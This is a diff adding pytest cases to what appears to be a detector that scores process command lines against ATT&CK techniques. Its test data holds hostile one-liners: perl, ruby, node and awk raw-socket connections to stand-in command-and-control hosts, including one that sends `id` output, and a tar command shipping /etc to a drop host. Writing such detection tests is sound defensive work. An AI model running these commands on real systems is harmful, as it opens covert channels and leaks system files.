@@ -242,3 +242,33 @@ def test_a_directory_served_by_one_command_is_named_by_what_it_exposes(line: str
 def test_programs_that_are_not_file_servers_serve_nothing(line: str) -> None:
     args = tuple(line.split())
     assert not [e for e in assess(ProcessEvent(args[0], line, args, working_directory="/etc")) if "serves" in e.reason]
+
+
+NETWORK_FROM_ARGUMENTS = [  # (argv, technique, weight at least)
+    (("perl", "-e", 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);connect(S,sockaddr_in(4444,inet_aton("10.9.8.7")))'),
+     "T1095", 0.3),
+    (("perl", "-MIO::Socket::INET", "-e", '$s=IO::Socket::INET->new(PeerAddr=>"203.0.113.4:443")'), "T1095", 0.3),
+    (("ruby", "-e", 'TCPSocket.open("c2.example.net", 8443).puts `id`'), "T1095", 0.3),
+    (("node", "-e", 'require("net").connect(9001, "198.51.100.2")'), "T1095", 0.3),
+    (("awk", 'BEGIN { s = "/inet/tcp/0/198.51.100.2/9001"; print "hi" |& s }'), "T1095", 0.3),
+    (("whois", "-h", "c2.example.net", "-p", "4444", "payload"), "T1071", 0.15),
+    (("tar", "cf", "ops@drop.example.net:/x/etc.tar", "/etc", "--rsh-command=/usr/bin/ssh"), "T1071", 0.15),
+    (("sshfs", "ops@c2.example.net:/", "/mnt/x"), "T1071", 0.15),
+]
+
+
+@pytest.mark.parametrize(("args", "technique", "weight"), NETWORK_FROM_ARGUMENTS)
+def test_connections_named_in_arguments_or_inline_code_are_evidence(args: tuple[str, ...], technique: str,
+                                                                     weight: float) -> None:
+    found = {e.technique: e.weight for e in assess(ProcessEvent(args[0], " ".join(args), args))}
+    assert found.get(technique, 0.0) >= weight, (args, found)
+
+
+@pytest.mark.parametrize("args", [
+    ("python3", "-c", "import socket; print(socket.gethostname())"),
+    ("gpg", "-e", "-r", "backups@example.org", "/var/backups/etc.tgz"),
+    ("awk", "-F:", "{print $1}", "/etc/passwd"),
+])
+def test_socket_words_and_mail_addresses_alone_are_no_connection(args: tuple[str, ...]) -> None:
+    found = {e.technique for e in assess(ProcessEvent(args[0], " ".join(args), args))}
+    assert not found & {"T1095", "T1071"}, (args, found)
